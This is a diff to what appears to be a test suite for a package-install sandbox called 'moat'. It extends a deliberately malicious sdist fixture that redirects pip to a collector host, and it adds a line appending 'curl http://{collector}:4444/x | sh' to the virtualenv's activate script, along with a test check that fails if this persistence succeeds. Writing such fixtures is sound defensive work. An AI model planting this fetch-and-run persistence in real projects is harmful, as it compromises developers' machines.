@@ -114,6 +114,12 @@ for venv in {{sys.prefix, os.environ.get("VIRTUAL_ENV", "")}}:
                 f.write("[global]\\nextra-index-url = http://{collector}:4444/simple\\n")
         except OSError:
             pass
+        # And a line that runs in the developer's shell at the next `source .venv/bin/activate`.
+        try:
+            with open(os.path.join(venv, "bin", "activate"), "a") as f:
+                f.write("\\ncurl http://{collector}:4444/x | sh\\n")
+        except OSError:
+            pass
 subprocess.Popen(["sh", "-c", "sleep 300", {mark!r}], start_new_session=True,
                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 from setuptools import setup
@@ -220,6 +226,7 @@ run_case() {
     fail "$name: .git/hooks changed: $(ls -A "$project/.git/hooks")"
   pgrep -f "$daemon_mark" >/dev/null && fail "$name: the daemon survived moat"
   [ -e "$project/.venv/pip.conf" ] && fail "$name: the sdist wrote the virtualenv's pip.conf: $(cat "$project/.venv/pip.conf")"
+  grep -q "curl" "$project/.venv/bin/activate" && fail "$name: the sdist appended to .venv/bin/activate"
   grep -q "CANARY" "$dir/out" "$dir/err" "$dir/audit.jsonl" && fail "$name: a secret leaked into the output"
   # In the account: the .pth is a finding, and the sdist's build is named.
   grep -q "evilwheel_hook.pth" "$dir/err" || fail "$name: the summary does not report the .pth with code"
